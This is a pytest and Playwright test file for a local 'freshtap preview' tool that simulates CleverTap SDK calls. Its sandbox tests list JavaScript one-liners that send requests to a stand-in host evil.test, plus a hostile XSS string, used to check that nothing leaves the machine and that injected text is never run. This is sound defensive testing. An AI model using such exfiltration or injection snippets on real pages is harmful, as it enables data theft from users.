"""``freshtap preview``: fire calls, edit the config, see what CleverTap would receive. In the browser, with the real SDK."""

from __future__ import annotations

import http.client
import json
import re
import signal
import subprocess
import sys
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from types import SimpleNamespace
from typing import Any, Final
from urllib.parse import urlsplit

import pytest
from click.testing import CliRunner
from playwright.sync_api import Browser, expect

import screenshot
from freshtap import plan, preview
from freshtap.cli import main
from freshtap.preview.server import Answer, Server
from freshtap.preview.weights import weigh
from freshtap.render.reasons import REASONS
from visit import PATIENCE
from workbench import CONFIG, Opens, Workbench, opening

ALL: Final = CONFIG + '[track]\nsend = "all"\n'
SEND: Final = CONFIG + '[track]\nbefore_identify = "send"\n'
COLLECTOR: Final = "in1.clevertap-prod.com"


@pytest.fixture(scope="module")
def module_opens(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opens]:
    """One SDK's server and one proxy for all tests."""
    with opening(browser, tmp_path_factory.mktemp("preview")) as opens:
        yield opens


@pytest.fixture
def opens(module_opens: Opens) -> Iterator[Opens]:
    """Opens workbenches for one test."""
    yield module_opens
    module_opens.close()


def received(workbench: Workbench) -> list[tuple[str | None, str, dict[str, Any]]]:
    return workbench.preview.collector.calls()


# -- firing calls --------------------------------------------------------------------------------------------------------


def test_track_and_identify_from_the_forms(opens: Opens) -> None:
    """An event waits for identify; then both arrive, and each shows what was called, handed over and received."""
    workbench = opens()
    expect(workbench.page.locator("#empty")).to_be_visible()
    workbench.fire("track")
    held = workbench.call("track Product Viewed", "held")
    expect(held).to_contain_text('freshpaint.track("Product Viewed")')
    expect(held).to_contain_text("Held: nobody is identified yet.")
    assert received(workbench) == []

    workbench.fire("identify")
    identified = workbench.call("identify test_user_id", "received")
    expect(identified.locator("pre").first).to_contain_text('birthday: "1988-09-28"')
    expect(identified.locator("pre").nth(1)).to_contain_text("clevertap.onUserLogin.push({")
    expect(identified.get_by_role("row", name="Phone 5555555555")).to_be_visible()
    expect(identified.get_by_role("row", name='DOB "$D_591451200" 1988-09-28 12:00 UTC')).to_be_visible()
    tracked = workbench.call("track Product Viewed", "received")
    expect(tracked).to_contain_text(f"under test_user_id at {COLLECTOR}")
    expect(workbench.page.locator("#visitor")).to_have_text("Visitor: test_user_id")
    assert [(person, name) for person, name, _ in received(workbench)] == [
        ("test_user_id", "identify"),
        ("test_user_id", "Product Viewed"),
    ]
    assert received(workbench)[0][2]["plan"] == "premium"
    assert workbench.errors == []


def test_properties_are_filled_in(opens: Opens) -> None:
    """Numbers, lists and objects are what they look like, the rest is text; an event of another name can be fired."""
    workbench = opens(ALL)
    workbench.fire("identify")
    workbench.tab("Track")
    page = workbench.page
    page.get_by_label("Event", exact=True).select_option("Another name…")
    page.get_by_label("Its name").fill("Searched")
    filled = {"price": "12.5", "text": '"7"', "new": "true", "by": '{"name": "Ann"}', "query": "tea & more"}
    for number, (name, value) in enumerate(filled.items()):
        if number:
            page.locator("#track").get_by_role("button", name="Add a property").click()
        page.locator("#event-properties").get_by_label("name").last.fill(name)
        page.locator("#event-properties").get_by_label("value").last.fill(value)
    page.locator("#track").get_by_role("button", name="Add a property").click()
    page.locator("#track").get_by_label("Remove this property").last.click()
    workbench.fire("track")
    workbench.call("track Searched", "received")
    expected = {"price": 12.5, "text": "7", "new": True, "by_name": "Ann", "query": "tea & more"}
    assert received(workbench)[-1] == ("test_user_id", "Searched", expected)


def test_a_purchase_has_a_form_that_is_one(opens: Opens) -> None:
    """An event that the config calls charged is filled in like a purchase, and arrives as Charged."""
    workbench = opens(SEND)
    workbench.page.get_by_label("Event", exact=True).select_option("Order Completed")
    workbench.fire("track")
    expect(workbench.call("track Order Completed", "received")).to_contain_text('clevertap.event.push("Charged"')
    items = [{"name": "Tea", "price": 12.5, "quantity": 2}]
    assert received(workbench) == [(None, "Charged", {"Charged ID": "1001", "Amount": 42.5, "Items": items})]


def test_forms_offer_what_transformations_look_for(opens: Opens) -> None:
    """The properties that the config changes are there to be filled in."""
    rename = '[[transformations]]\non = "Product Viewed"\nop = "rename-property"\nfrom = "coupon"\nto = "Coupon code"\n'
    workbench = opens(SEND + rename + '[[transformations]]\non = "identify"\nop = "uppercase"\nproperty = "tier"\n')
    names = workbench.page.locator("#event-properties").get_by_label("name")
    assert [name.input_value() for name in names.all()] == ["coupon"]
    workbench.page.locator("#event-properties").get_by_label("value").fill("SPRING")
    workbench.fire("track")
    workbench.call("track Product Viewed", "received")
    assert received(workbench) == [(None, "Product Viewed", {"Coupon code": "SPRING"})]
    workbench.tab("Identify")
    assert [name.input_value() for name in workbench.page.locator("#traits").get_by_label("name").all()] == [
        "plan",
        "tier",
    ]


#: What is run; the call, what becomes of it, and what is said about it. One visitor, who refuses in the end.
OUTCOMES: Final[dict[str, tuple[str, str, str, list[str]]]] = {
    "nobody to forget": ("freshpaint.reset()", "reset ", "nothing", ["The user is forgotten."]),
    "not enabled": (
        'freshpaint.track("Scrolled")',
        "track Scrolled",
        "dropped",
        [REASONS["event-not-enabled"].capitalize().replace("clevertap", "CleverTap")],
    ),
    "a value left out": (
        'freshpaint.identify("u1", {phone: "call me"})',
        "identify u1",
        "received",
        [f'Phone "call me" {REASONS["field-unusable"]}'],
    ),
    "a name changed": (
        'freshpaint.identify("u1", {"a.b": 1})',
        "identify u1",
        "received",
        [f'a.b → "ab" {REASONS["name-cleaned"]}'],
    ),
    "not for this destination": (
        'freshpaint.identify("u1", {}, {integrations: {All: false}})',
        "identify u1",
        "dropped",
        [REASONS["not-allowed"].capitalize()],
    ),
    "nothing to do with this destination": (
        'freshpaint.page("Home")',
        "page ",
        "called",
        ["Does nothing here: CleverTap’s destination takes identify and track."],
    ),
    "event properties": (
        "freshpaint.addEventProperties({a: 1})",
        "addEventProperties ",
        "called",
        ["Kept: rides along with every event from now on."],
    ),
    "an error of one's own": ("noSuchThing()", "error ", "failed", []),
    "code that is none": ("if (", "error ", "failed", []),
    "refused by the visitor": (
        'freshpaint.opt_out_tracking(); freshpaint.identify("u1")',
        "identify u1",
        "dropped",
        [REASONS["consent-refused"].capitalize()],
    ),
}


@pytest.fixture(scope="module")
def shared(browser: Browser, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Workbench]:
    """One page for all rows of a table."""
    with opening(browser, tmp_path_factory.mktemp("shared")) as opens:
        yield opens()


@pytest.mark.parametrize("case", OUTCOMES)
def test_what_becomes_of_pasted_code(shared: Workbench, case: str) -> None:
    """Each call of pasted code is shown, with what became of it and why, in plain words."""
    code, call, state, sentences = OUTCOMES[case]
    shared.page.get_by_role("button", name="Clear").click()
    shared.run(code)
    shown = shared.call(call, state)
    assert shown.locator(".reasons li").all_inner_texts() == sentences
    expect(shown.locator("pre").first).to_contain_text("freshpaint." if state != "failed" else "Error")


def test_the_same_code_twice(shared: Workbench) -> None:
    """Its constants are its own."""
    shared.page.get_by_role("button", name="Clear").click()
    shared.run("const page = 'Home'; freshpaint.page(page);")
    shared.run("const page = 'Home'; freshpaint.page(page);")
    # What the SDK sends on its own account may come at any time.
    expect(shared.page.locator("li.call:not([data-state=own])")).to_have_count(2)
    assert shared.page.locator("li.call .method").all_inner_texts() == ["page", "page"]


def test_a_long_list_is_kept_short(opens: Opens) -> None:
    """Of many calls in one tick the page shows the last, and CleverTap has them all."""
    workbench = opens(SEND)
    workbench.run(
        "for (let n = 0; n < 600; n++) freshpaint.addEventProperties({n}); freshpaint.track('Product Viewed');"
    )
    workbench.call("track Product Viewed", "received")
    assert workbench.page.locator("li.call").count() <= 500
    assert received(workbench) == [(None, "Product Viewed", {"n": 599})]


def test_the_next_page_and_a_new_visitor(opens: Opens) -> None:
    """What is held goes on with the visitor to the next page; a new visitor has nothing of it."""
    workbench = opens()
    workbench.fire("track")
    workbench.call("track Product Viewed", "held")
    workbench.page.get_by_role("button", name="Next page").click()
    workbench.ready()
    workbench.run('freshpaint.identify("u1")')
    expect(workbench.call("track Product Viewed", "received")).to_contain_text("under u1")
    workbench.page.get_by_role("button", name="New visitor").click()
    workbench.ready()
    expect(workbench.page.locator("#visitor")).to_have_text("Visitor: nobody yet")
    workbench.fire("track")
    workbench.call("track Product Viewed", "held")
    assert workbench.page.locator("li.page").all_inner_texts()[0].startswith("New visitor")


def test_several_users_in_one_go(opens: Opens) -> None:
    """Each event is shown under the user who was current when it was called."""
    workbench = opens()
    workbench.run(
        "for (const id of ['u1', 'u2']) { freshpaint.identify(id); freshpaint.track('Product Viewed', {id}); }"
    )
    workbench.until(lambda: len(received(workbench)) == 4, "four calls")
    expect(workbench.page.locator("li.call[data-state=received]")).to_have_count(4)
    people = workbench.page.locator("li.call[data-state=received] .person b").all_inner_texts()
    assert people == ["u2", "u2", "u1", "u1"]
    tracked = [data for _, name, data in received(workbench) if name == "Product Viewed"]
    assert tracked == [{"id": "u1"}, {"id": "u2"}]


def test_what_the_sdk_sends_by_itself(shared: Workbench) -> None:
    """Its page views are there for those who ask for them."""
    shared.page.get_by_role("button", name="New visitor").click()
    own = shared.page.locator("li.call[data-state=own]").first
    expect(own).to_be_attached()
    expect(own).to_be_hidden()
    shared.page.get_by_label("Show what CleverTap’s SDK sends by itself").check()
    expect(own).to_be_visible()


# -- other configs -------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "addition",
    ['[freshpaint]\nmode = "companion"\n', 'transport = "fetch"', "spa = true\nuse_ip = true"],
    ids=["companion", "fetch", "spa"],
)
def test_other_ways_to_send(opens: Opens, addition: str) -> None:
    """Companion mode, where Freshpaint's snippet is stood in for, and the SDK's other ways arrive just so."""
    inside = CONFIG.replace('sdk_url = "SDK"', f'sdk_url = "SDK"\n{addition}')
    config = CONFIG + addition if addition.startswith("[") else inside
    workbench = opens(config)
    workbench.run('freshpaint.identify("u1"); freshpaint.track("Product Viewed", {a: 1});')
    workbench.call("track Product Viewed", "received")
    assert received(workbench) == [("u1", "identify", {"Identity": "u1"}), ("u1", "Product Viewed", {"a": 1})]


def test_consent_is_waited_for(opens: Opens) -> None:
    """Without consent the SDK is not loaded, and a call stands in line; with it, it arrives."""
    workbench = opens(CONFIG + "[consent]\nrequired = true\n", ready=False)
    expect(workbench.page.locator("#status")).to_have_text(
        "CleverTap’s SDK is loaded once the visitor agrees. To agree, run freshpaint.opt_in_tracking()"
    )
    workbench.run('freshpaint.identify("u1")')
    expect(workbench.call("identify u1", "joined")).to_contain_text("the visitor’s consent")
    workbench.run("freshpaint.opt_in_tracking()")
    workbench.call("identify u1", "received")


def test_a_visitor_who_has_refused(opens: Opens) -> None:
    """On the next page no SDK is waited for, and the page says why, until the visitor agrees again."""
    workbench = opens()
    workbench.run("freshpaint.opt_out_tracking()")
    workbench.call("opt_out_tracking ", "told")
    workbench.page.get_by_role("button", name="Next page").click()
    status = workbench.page.locator("#status")
    expect(status).to_have_text(
        "The visitor has refused: nothing is loaded or sent. To agree, run freshpaint.opt_in_tracking()"
    )
    workbench.run("freshpaint.opt_in_tracking()")
    expect(status).to_have_text("Ready. Nothing is sent to CleverTap.")


def test_the_sdk_cannot_be_loaded(opens: Opens) -> None:
    """The page says so in plain words, and calls still show what the bridge makes of them."""
    workbench = opens(CONFIG.replace("SDK", "http://127.0.0.1:9/clevertap.min.js"), ready=False)
    expect(workbench.page.get_by_role("alert")).to_contain_text(
        "CleverTap’s SDK could not be loaded from http://127.0.0.1:9/clevertap.min.js: this machine may be offline"
    )
    workbench.run('freshpaint.identify("u1", {phone: "call me"})')
    expect(workbench.call("identify u1", "joined")).to_contain_text(REASONS["field-unusable"])
    assert received(workbench) == []


# -- the config in the editor --------------------------------------------------------------------------------------------


def test_a_wrong_config_shows_all_its_problems(opens: Opens) -> None:
    """In the words of `freshtap check`; the preview goes on with what was built last, and the file stays as it is."""
    workbench = opens(SEND)
    file = workbench.page.locator("#file").inner_text()
    before = Path(file).read_text(encoding="utf-8")
    wrong = before.replace("in1", "in2").replace("charged", "chraged") + '[[events]]\nname = "Stayed"\n'
    workbench.edit(wrong)
    problems = workbench.page.locator("#problems li")
    expect(problems).to_have_count(3)
    expect(workbench.page.locator("#count")).to_have_text("3")
    assert Path(file).read_text(encoding="utf-8") == before
    Path(file).write_text(wrong, encoding="utf-8")
    checked = CliRunner().invoke(main, ["check", file])
    assert problems.all_inner_texts() == checked.stderr.splitlines()
    workbench.fire("track")
    workbench.call("track Product Viewed", "received")


@pytest.mark.parametrize("text", ["[", "", "\x00", 'name = "é', "a = 1" * 5000, '[clevertap]\naccount_id = "\ud800"'])
def test_what_is_no_config_at_all(shared: Workbench, text: str) -> None:
    """It is told, whatever it is."""
    outcome = shared.preview.build(text)
    assert outcome.keys() == {"problems"}
    assert outcome["problems"]


def test_the_config_is_rebuilt_as_it_is_typed(opens: Opens) -> None:
    """A new event is in the form at once and arrives; a warning is told; the way back is there."""
    workbench = opens(SEND)
    edited = SEND.replace("SDK", opens.sdk).replace("in1", "us1") + '[[events]]\nname = "Signed Up!"\n'
    workbench.edit(edited)
    expect(workbench.page.locator("#problems li[data-severity=warning]")).to_contain_text(
        'reaches CleverTap as "Signed Up"'
    )
    expect(workbench.page.locator("#about")).to_contain_text("us1")
    workbench.ready()
    workbench.tab("Track")
    workbench.page.get_by_label("Event", exact=True).select_option("Signed Up!")
    workbench.fire("track")
    expect(workbench.call("track Signed Up!", "received")).to_contain_text("at us1.clevertap-prod.com")
    workbench.tab("Config")
    workbench.page.get_by_role("button", name="Back to the file’s text").click()
    expect(workbench.page.locator("#about")).to_contain_text("in1")
    assert "Signed Up!" not in workbench.page.get_by_label("Event", exact=True).inner_text()


def test_the_weight_is_a_chart(opens: Opens, tmp_path: Path) -> None:
    """Each feature that the config uses, and its bytes; the bars are as long as the numbers are large."""
    config = (
        CONFIG.replace("SDK", opens.sdk) + '[identify]\ndefault_country_code = "+1"\n[consent]\nrespect_gpc = true\n'
    )
    workbench = opens(config)
    (tmp_path / "freshtap.toml").write_text(config, encoding="utf-8")
    weights = weigh(plan.load(tmp_path / "freshtap.toml").site)
    rows = workbench.page.locator("#weights tr")
    expect(rows).to_have_count(len(weights))
    expected = [f"{weight.part}\t{abs(weight.gzip):,} B{' less' if weight.gzip < 0 else ''}" for weight in weights]
    assert [re.sub(r"\s*\t\s*", "\t", text) for text in rows.all_inner_texts()] == expected
    expect(workbench.page.locator("#total b")).to_have_text(f"{sum(weight.gzip for weight in weights):,} B")
    widths = [
        bar.evaluate("bar => bar.getBoundingClientRect().width")
        for bar in workbench.page.locator("#weights .feature").all()
    ]
    assert widths == sorted(widths, reverse=True)
    assert widths[0] > 50


def test_a_feature_that_makes_the_script_smaller(shared: Workbench) -> None:
    """It is told and drawn as less, apart from those that add; the strip of the whole is as long as what adds."""
    parts = [["in every script", 3000], ["adds", 600], ["is free", 0], ["saves", -300]]
    drawn = shared.page.evaluate(
        """async parts => {
            const { weigh } = await import("/weights.js");
            weigh({ gzip: 3300, bytes: 9000, snippet: 400 }, parts);
            const bars = place => [...document.querySelectorAll(`${place} i`)].map(bar => [bar.className, bar.style.width]);
            return [bars("#whole"), bars("#weights tr:not(:first-child)")];
        }""",
        parts,
    )
    texts = [re.sub(r"\s*\t\s*", "\t", text) for text in shared.page.locator("#weights tr").all_inner_texts()]
    assert texts == ["in every script\t3,000 B", "adds\t600 B", "is free\t0 B", "saves\t300 B less"]
    whole, features = drawn
    assert [kind for kind, _ in whole] == ["common", "feature"]
    assert sum(float(width.removesuffix("%")) for _, width in whole) == pytest.approx(100, abs=0.01)
    assert features == [["feature", "100%"], ["feature", "0%"], ["less", "50%"]]


# -- no way out, no way in -----------------------------------------------------------------------------------------------

#: Each would leave the machine.
LEAVING: Final = {
    "fetch": "fetch('https://evil.test/')",
    "image": "new Image().src = 'https://evil.test/'",
    "script": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://evil.test/'}))",
    "frame": "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://evil.test/'}))",
    "socket": "new WebSocket('wss://evil.test/')",
    "beacon": "navigator.sendBeacon('https://evil.test/', 'x')",
    "form": "const f = Object.assign(document.createElement('form'), {action: 'https://evil.test/'}); document.body.append(f); f.submit()",
    "another of CleverTap's hosts": "document.head.append(Object.assign(document.createElement('script'), {src: 'https://eu1.clevertap-prod.com/a'}))",
    "the page itself": "location.href = 'https://evil.test/'",
    "the page around it": "top.location.href = 'https://evil.test/'",
    "a window": "open('https://evil.test/')",
}


def test_nothing_leaves_the_machine(opens: Opens) -> None:
    """The SDK's requests are answered here by the worker; whatever else pasted code asks for goes nowhere."""
    workbench = opens(SEND)
    workbench.fire("identify")
    workbench.fire("track")
    workbench.call("track Product Viewed", "received")
    assert len(workbench.answered_by_worker(COLLECTOR)) >= 2
    assert all(workbench.answered_by_worker(COLLECTOR))
    *staying, page, around, window = (f"try {{ {code} }} catch (error) {{}}" for code in LEAVING.values())
    for codes in (staying, [window, around], [page]):
        workbench.run("\n".join(f"{{ {code} }}" for code in codes))
        workbench.page.wait_for_timeout(200)
    assert workbench.page.url == workbench.preview.address
    assert workbench.left == []


@pytest.mark.parametrize(
    ("url", "outcome"),
    [
        ("https://SDK.site.test/x.js?a=1", "load"),
        ("https://sdk.site.test:443/x.js?a=1#b", "load"),
        ("https://sdk.site.test/x.js", "refuse"),
        ("http://sdk.site.test/x.js?a=1", "refuse"),
        ("https://sdk.site.test:444/x.js?a=1", "refuse"),
        ("https://sdk.site.test/y.js?a=1", "refuse"),
        (f"https://{COLLECTOR}/a?d=", "answer"),
        ("https://eu1.clevertap-prod.com/a?d=", "refuse"),
        (f"http://{COLLECTOR}/a?d=", "refuse"),
        (f"https://{COLLECTOR}.evil.test/a?d=", "refuse"),
        (f"https://evil.test/https://{COLLECTOR}/a?d=", "refuse"),
        ("https://[", "refuse"),
        ("https://sdk.site.test:x/x.js?a=1", "refuse"),
    ],
)
def test_what_may_go_where(tmp_path: Path, url: str, outcome: str) -> None:
    """The SDK's script is loaded, however its address is written; CleverTap's host is answered here; all else is refused."""
    (tmp_path / "freshtap.toml").write_text(CONFIG.replace("SDK", "https://sdk.site.test/x.js?a=1"), encoding="utf-8")
    with preview.running(tmp_path / "freshtap.toml") as running:
        assert running.ask(url, fetch=False)["outcome"] == outcome


def test_the_proxy_would_notice(opens: Opens) -> None:
    """What the test above relies on: a request to elsewhere, from a page that may, comes by the proxy."""
    workbench = opens(ready=False)
    page = workbench.page.context.new_page()
    page.set_content("<script>fetch('https://evil.test/').catch(() => {})</script>")
    workbench.until(lambda: workbench.left == ["CONNECT evil.test:443 HTTP/1.1"], "the proxy")


def test_without_a_service_worker_there_is_no_sdk(opens: Opens) -> None:
    """Where nothing can stand between page and network, there is no page that could send, and the person is told."""
    workbench = opens(ready=False, service_workers="block")
    expect(workbench.page.get_by_role("alert")).to_contain_text("Nothing can be fired here")
    expect(workbench.page.get_by_role("button", name="Fire track")).to_be_disabled()
    assert not any("clevertap" in frame.content() for frame in workbench.page.frames[1:])
    assert workbench.left == []


def test_the_page_with_the_sdk_is_the_workers_alone(shared: Workbench) -> None:
    """The server gives it to nobody who does not have the site's key: not to a browser that asks without the worker."""
    site, key = shared.preview.site, shared.preview.site.key
    asked = []
    for method, headers in (
        ("GET", {}),
        ("POST", {}),
        ("POST", {"X-Freshtap-Key": shared.preview.workbench.key}),
        ("POST", {"X-Freshtap-Key": key}),
    ):
        with closing(http.client.HTTPConnection(site.host, timeout=5)) as connection:
            connection.request(method, "/page", "null", headers)
            answer = connection.getresponse()
            asked.append((answer.status, b"clevertap" in answer.read()))
    assert asked == [(404, False), (403, False), (403, False), (200, True)]


def test_the_script_is_for_the_sites_page_alone(shared: Workbench) -> None:
    """Account, token and events are in it: nobody finds it who does not have the page, where its way is written."""
    name = shared.preview.state()["built"]["name"]
    page = shared.preview.page().content
    (hidden,) = re.findall(rf'src="(/[\w-]{{32}}/{name}/freshtap\.\w+\.js)"', page)
    file = hidden.rpartition("/")[2]
    asked = {}
    for path in (hidden, f"/{name}/{file}", f"/{name}/freshtap.js", f"//{name}/{file}", f"{hidden[:-4]}1.js"):
        with closing(http.client.HTTPConnection(shared.preview.site.host, timeout=5)) as connection:
            connection.request("GET", path)
            answer = connection.getresponse()
            asked[path] = answer.status, b"TEST-86K-4Z9-K85Z" in answer.read()
    assert asked.pop(hidden) == (200, True)
    assert set(asked.values()) == {(404, False)}


def test_a_reload_that_goes_past_the_worker(opens: Opens) -> None:
    """With the shift key held, a browser loads a page and its frames without their worker: the SDK waits for it anew."""
    workbench = opens(SEND)
    page = workbench.page
    with page.expect_response("**/start", timeout=PATIENCE * 1000) as started:
        # Its answer is not waited for: at times there is none, as the page that it is for is gone.
        page.context.new_cdp_session(page)._impl_obj._channel.send_no_reply(  # noqa: SLF001 - send waits for ever
            "send", None, {"method": "Page.reload", "params": {"ignoreCache": True}}
        )
    assert not started.value.from_service_worker
    workbench.ready()
    workbench.fire("track")
    workbench.call("track Product Viewed", "received")
    assert all(workbench.answered_by_worker(COLLECTOR))
    assert workbench.left == []


def test_the_site_cannot_reach_into_the_workbench(shared: Workbench) -> None:
    """Pasted code and the SDK run in another origin: neither the key nor the page around them is theirs."""
    shared.page.get_by_role("button", name="Clear").click()
    shared.run("parent.document.title = 'mine'")
    expect(shared.call("error ", "failed")).to_contain_text("SecurityError")
    seen = shared.page.frames[-1].evaluate("location.href + document.referrer + Object.values(localStorage)")
    assert shared.preview.workbench.key not in seen
    assert shared.preview.site.key not in seen


HOSTILE: Final = "<img src=x onerror='window.hit=1'></script><script>window.hit=1</script>${1}$fill(x)\u202e\"'`"


def test_hostile_text_is_text(opens: Opens) -> None:
    """In an event's name, a property, a value, a user id, the config's own text: shown as it is, and never run."""
    name = json.dumps(HOSTILE, ensure_ascii=False)
    workbench = opens(f"{ALL}[[events]]\nname = {name}\n[freshpaint]\ndestination = {name}\n")
    page = workbench.page
    page.get_by_label("Event", exact=True).select_option(label=HOSTILE)
    page.locator("#event-properties").get_by_label("name").fill(HOSTILE)
    page.locator("#event-properties").get_by_label("value").fill(HOSTILE)
    expect(page.locator("#track-code")).to_contain_text(name)
    workbench.fire("track")
    workbench.run(f"freshpaint.identify({name}, {{phone: {name}, [{name}]: {name}}})")
    expect(workbench.call(f"track {HOSTILE}", "received").locator("pre").first).to_contain_text(name)
    expect(workbench.call(f"identify {HOSTILE}", "received")).to_contain_text(HOSTILE[:20])
    workbench.edit(f"[{name}]\n{name} = {name}")
    expect(page.locator("#problems li").last).to_contain_text("unknown key")
    assert page.evaluate("window.hit") is None
    assert page.frames[1].evaluate("window.hit") is None
    assert page.locator("main img, #received script").count() == 0


# -- for everyone --------------------------------------------------------------------------------------------------------


def test_what_has_to_be_scrolled_is_reached_by_keyboard(opens: Opens) -> None:
    """Long code has the focus in its turn; code that is all there has not."""
    workbench = opens(SEND)
    workbench.run("freshpaint.track('Product Viewed', {list: Array.from({length: 200}, (_, n) => 'item ' + n)})")
    long = workbench.call("track Product Viewed", "received").locator("pre").first
    expect(long).to_have_attribute("tabindex", "0")
    workbench.run("freshpaint.identify('u1')")
    short = workbench.call("identify u1", "received").locator("pre").first
    expect(short).to_be_visible()
    expect(short).not_to_have_attribute("tabindex", "0")


def test_by_keyboard_alone(opens: Opens) -> None:
    """Everything is reached and used without a mouse, the focus is always seen, and the outcome is said aloud."""
    workbench = opens(SEND)
    page = workbench.page
    keyboard = page.keyboard
    focused = "() => { const e = document.activeElement; const s = getComputedStyle(e); return [e.id || e.textContent.trim() || e.ariaLabel, s.outlineStyle !== 'none' && parseFloat(s.outlineWidth) > 0] }"

    def press_until(wanted: str, key: str = "Tab") -> None:
        for _ in range(40):
            keyboard.press(key)
            name, is_seen = page.evaluate(focused)
            assert is_seen, f"{name} has the focus, and does not show it"
            if name == wanted:
                return
        raise AssertionError(f"{wanted} was not reached")

    press_until("Skip to what arrived")
    press_until("tab-track")
    press_until("tab-identify", "ArrowRight")
    expect(page.locator("#panel-identify")).to_be_visible()
    press_until("Fire identify")
    keyboard.press("Enter")
    expect(page.locator("#news")).to_have_text("identify test_user_id: received by CleverTap, under test_user_id")
    press_until("tab-identify", "Shift+Tab")
    press_until("tab-config", "End")
    press_until("tab-code", "ArrowLeft")
    press_until("source")
    keyboard.press("Control+a")
    keyboard.type("freshpaint.track('Product Viewed')")
    keyboard.press("Control+Enter")
    workbench.call("track Product Viewed", "received")
    press_until("next")
    press_until("own")


def test_every_field_has_a_name(shared: Workbench) -> None:
    """So that a screen reader can say it."""
    named = shared.page.evaluate(
        "[...document.querySelectorAll('input, select, textarea')].map(field => field.labels.length > 0 || !!field.ariaLabel)"
    )
    assert named
    assert all(named)


def fill_the_page(workbench: Workbench) -> None:
    """Calls of all kinds, with long names and values, and a problem."""
    workbench.page.get_by_role("button", name="New visitor").click()
    workbench.ready()
    workbench.fire("track")
    workbench.run(
        "freshpaint.identify('u'.repeat(300), {['k'.repeat(110)]: 'v'.repeat(400), phone: 'call me'});"
        "freshpaint.track('Product Viewed', {['p'.repeat(130)]: 'w'.repeat(600)}); freshpaint.track('n'.repeat(200)); noSuchThing();"
    )
    workbench.call("track Product Viewed", "received")
    workbench.call(f"identify {'u' * 300}", "received")
    workbench.edit("[" + "x" * 200 + "]")
    expect(workbench.page.locator("#problems li").first).to_be_visible()


@pytest.mark.parametrize("width", [320, 390, 820, 1100, 1440])
def test_no_width_scrolls_sideways(shared: Workbench, width: int) -> None:
    """From the narrowest phone to the desk."""
    if not shared.page.locator("li.call", has_text="uuuuuu").count():
        fill_the_page(shared)
    shared.page.set_viewport_size({"width": width, "height": 800})
    for tab in ("Track", "Identify", "Code", "Config"):
        shared.tab(tab)
        assert shared.page.evaluate("document.documentElement.scrollWidth") <= width, tab


#: The least contrast that people with weak eyes can read, by WCAG 2.2.
READABLE: Final = 4.5
CONTRASTS: Final = """() => {
    const channels = color => color.match(/[\\d.]+/g).map(Number);
    const light = color => channels(color).slice(0, 3).map(c => c / 255)
        .map(c => c <= 0.04045 ? c / 12.92 : ((c + 0.055) / 1.055) ** 2.4)
        .reduce((sum, c, i) => sum + c * [0.2126, 0.7152, 0.0722][i], 0);
    const ground = element => {
        const color = getComputedStyle(element).backgroundColor;
        return channels(color)[3] === 0 && element.parentElement ? ground(element.parentElement) : color;
    };
    const told = [...document.querySelectorAll('body *')].filter(element =>
        element.checkVisibility() && !element.disabled && [...element.childNodes].some(node => node.nodeType === 3 && node.data.trim()));
    return told.map(element => {
        const [a, b] = [light(getComputedStyle(element).color), light(ground(element))].sort((x, y) => y - x);
        return [(a + 0.05) / (b + 0.05), element.tagName + '.' + element.className + ' ' + element.textContent.trim().slice(0, 30)];
    });
}"""


@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_light_and_dark_are_readable(shared: Workbench, scheme: Any) -> None:
    """The page follows the system, and every text on it stands out from what is behind it."""
    if not shared.page.locator("li.call", has_text="uuuuuu").count():
        fill_the_page(shared)
    shared.page.emulate_media(color_scheme=scheme, reduced_motion="reduce")
    ground = shared.page.evaluate("getComputedStyle(document.body).backgroundColor")
    assert (sum(map(int, re.findall(r"\d+", ground)[:3])) > 382) == (scheme == "light")
    contrasts = shared.page.evaluate(CONTRASTS)
    assert len(contrasts) > 40
    assert [text for contrast, text in contrasts if contrast < READABLE] == []


def test_the_picture_in_the_readme_can_be_taken(opens: Opens) -> None:
    """The page still comes to the state that the picture shows; its pixels are not compared."""
    picture = screenshot.take(opens(screenshot.CONFIG, **screenshot.VIEW))
    assert picture.startswith(b"\x89PNG")
    assert len(picture) < 200_000
    assert screenshot.FILE.is_file()


# -- the command ---------------------------------------------------------------------------------------------------------


def test_the_command(tmp_path: Path) -> None:
    """It prints an address that only this machine can open, and Ctrl-C ends it without a word."""
    (tmp_path / "freshtap.toml").write_text(CONFIG.replace("SDK", "https://sdk.site.test/x.js"), encoding="utf-8")
    command = [sys.executable, "-m", "freshtap", "preview"]
    with subprocess.Popen(command, cwd=tmp_path, stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True) as running:
        assert running.stdout is not None
        told = [running.stdout.readline() for _ in range(2)]
        assert re.fullmatch(r"Preview of freshtap\.toml: http://127\.0\.0\.1:\d+/#[\w-]{32,}\n", told[0])
        assert told[1] == "Only this machine can open it, and nothing is sent to CleverTap. Ctrl-C ends it.\n"
        running.send_signal(signal.SIGINT)
        assert running.communicate(timeout=10) == ("\n", "")
    assert running.returncode == 0


def test_a_file_of_windows(tmp_path: Path) -> None:
    """The editor has the file's text as a page has text: without the mark in front, and with its own line ends."""
    text = CONFIG.replace("SDK", "https://sdk.site.test/x.js")
    path = tmp_path / "freshtap.toml"
    path.write_bytes(b"\xef\xbb\xbf" + text.replace("\n", "\r\n").encode())
    with preview.running(path) as running:
        assert running.state()["text"] == text


def test_once_it_has_ended(opens: Opens) -> None:
    """The page says so, and the addresses are given back: what lives there afterwards has no worker in front of it."""
    command = [sys.executable, "-m", "freshtap", "preview", str(opens.file())]
    page = opens.page()
    with subprocess.Popen(command, stdout=subprocess.PIPE, text=True) as running:
        assert running.stdout is not None
        page.goto(running.stdout.readline().split()[-1])
        page.locator("#status[data-state=ready]").wait_for()
        site = page.frames[1].url
        running.send_signal(signal.SIGINT)
        running.wait(timeout=10)
    page.get_by_role("tab", name="Config").click()
    page.locator("#config").fill("")
    expect(page.get_by_role("alert")).to_contain_text("The preview does not answer any more")

    other = Server(int(urlsplit(site).port or 0), {"/": Answer("<p>another", "text/html")}.get, {})
    threading.Thread(target=other.serve_forever, args=(0.01,), daemon=True).start()
    for _ in range(2):
        page.goto(site)
        assert page.inner_text("p") == "another"
    assert page.evaluate("navigator.serviceWorker.getRegistration().then(found => found === undefined)")
    other.shutdown()
    other.server_close()


